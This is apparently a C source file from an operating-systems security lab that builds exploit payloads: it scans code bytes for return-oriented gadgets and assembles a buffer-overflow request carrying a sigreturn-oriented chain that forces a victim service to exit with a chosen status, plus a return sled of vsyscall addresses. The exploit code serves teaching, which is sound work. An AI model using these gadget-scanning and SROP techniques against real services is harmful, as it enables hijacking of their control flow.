/* The payload builder: gadgets found in a page's bytes, and the requests made of them (docs/attack.md). */
#include "attack.h"

/* How many words a run of pops at p takes (5b..5f and 58..5d pop one register; 41 5x pops r8..r15), up to a ret; -1 if not. */
static int pops_then_ret(const unsigned char *p, const unsigned char *end)
{
	int pops = 0;

	while (p < end) {
		if (*p == 0xc3)
			return pops;
		if (*p >= 0x58 && *p <= 0x5f)
			p++;
		else if (*p == 0x41 && p + 1 < end && p[1] >= 0x58 && p[1] <= 0x5f)
			p += 2;
		else
			return -1;
		pops++;
	}
	return -1;
}

/*
 * Scan bytes (a copy of the code at base in the victim) for the three
 * pieces of the chain: a lone ret, "xor %eax,%eax; ret", and a syscall
 * followed only by pops and a ret (the fewest pops wins). An attacker's
 * tool would do the same to the page's bytes; 0 when all three are there.
 */
int find_gadgets(const unsigned char *bytes, size_t len, unsigned long base, struct gadgets *g)
{
	size_t i;
	int pops;

	*g = (struct gadgets){ .syscall_pops = 99 };
	for (i = 0; i < len; i++) {
		if (bytes[i] == 0xc3 && !g->ret)
			g->ret = base + i;
		if (i + 2 < len && bytes[i] == 0x31 && bytes[i + 1] == 0xc0 && bytes[i + 2] == 0xc3 &&
		    !g->zero_rax)
			g->zero_rax = base + i;
		if (i + 1 < len && bytes[i] == 0x0f && bytes[i + 1] == 0x05 &&
		    (pops = pops_then_ret(bytes + i + 2, bytes + len)) >= 0 && pops < g->syscall_pops) {
			g->syscall = base + i;
			g->syscall_pops = pops;
		}
	}
	return g->ret && g->zero_rax && g->syscall ? 0 : -1;
}

/* Linux's struct ucontext with its sigcontext, what rt_sigreturn reads at rsp (asm/sigcontext.h). */
struct sigcontext64 {
	unsigned long r8, r9, r10, r11, r12, r13, r14, r15;
	unsigned long rdi, rsi, rbp, rbx, rdx, rax, rcx, rsp, rip, eflags;
	unsigned short cs, gs, fs, ss;
	unsigned long err, trapno, oldmask, cr2, fpstate, reserved[8];
};

struct ucontext64 {
	unsigned long uc_flags, uc_link;
	unsigned long ss_sp, ss_flags, ss_size;
	struct sigcontext64 mc;
	unsigned long uc_sigmask;
};

#define SLED_WORDS	16	/* rets: wherever the return address is among them, the chain follows */
#define NR_EXIT		60

static unsigned char *put_word(unsigned char *p, unsigned long w)
{
	memcpy(p, &w, 8);
	return p + 8;
}

/*
 * The request of fixed-syscall and vdso-*: a length, then the body that
 * overflows the service's buffer, then 15 more bytes.
 *
 *	SLED_WORDS x ret	the saved return address is one of these
 *	zero_rax		xor %eax,%eax; ret: rax = 0, read's number
 *	syscall			read(fd, buf, len) still in rdi, rsi, rdx from the
 *				service's own read: it reads the 15 bytes at the end,
 *				so rax = 15, rt_sigreturn's number; then its pops
 *	pops x filler
 *	syscall			rt_sigreturn: the registers come from the frame below
 *	struct ucontext64	rip = syscall, rax = exit, rdi = CHOSEN_STATUS
 *	(end of body) 15 bytes
 */
size_t build_srop_exit(unsigned char *req, size_t size, const struct gadgets *g)
{
	/* LAB attack: BEGIN */
	struct ucontext64 uc = { 0 };
	unsigned char *p = req + 4;
	uint32_t body;
	int i;

	if (size < 4 + (SLED_WORDS + 3 + (size_t)g->syscall_pops) * 8 + sizeof(uc) + NR_RT_SIGRETURN)
		return 0;
	for (i = 0; i < SLED_WORDS; i++)
		p = put_word(p, g->ret);
	p = put_word(p, g->zero_rax);
	p = put_word(p, g->syscall);
	for (i = 0; i < g->syscall_pops; i++)
		p = put_word(p, 0x4141414141414141ul);
	p = put_word(p, g->syscall);
	uc.mc.rip = g->syscall;
	uc.mc.rax = NR_EXIT;
	uc.mc.rdi = CHOSEN_STATUS;
	uc.mc.rsp = 0x10000;		/* any canonical value: exit does not return */
	memcpy(p, &uc, sizeof(uc));
	p += sizeof(uc);
	body = p - (req + 4);
	memcpy(req, &body, 4);
	memcpy(p, "fifteen bytes!\n", NR_RT_SIGRETURN);
	return p + NR_RT_SIGRETURN - req;
	/* LAB attack: STUB
	printf("LAB TODO: user/attack/attack_payload.c: build_srop_exit() is yours to write "
	       "(docs/labs/07-attack.md)\n");
	return 0;
	   LAB attack: END */
}

/* The request of fixed-ret: body_len bytes, every word of them the address of a vsyscall entry. */
size_t build_ret_sled(unsigned char *req, size_t size, unsigned long entry, size_t body_len)
{
	uint32_t body = body_len;
	size_t i;

	if (size < 4 + body_len)
		return 0;
	memcpy(req, &body, 4);
	for (i = 0; i + 8 <= body_len; i += 8)
		memcpy(req + 4 + i, &entry, 8);
	return 4 + body_len;
}
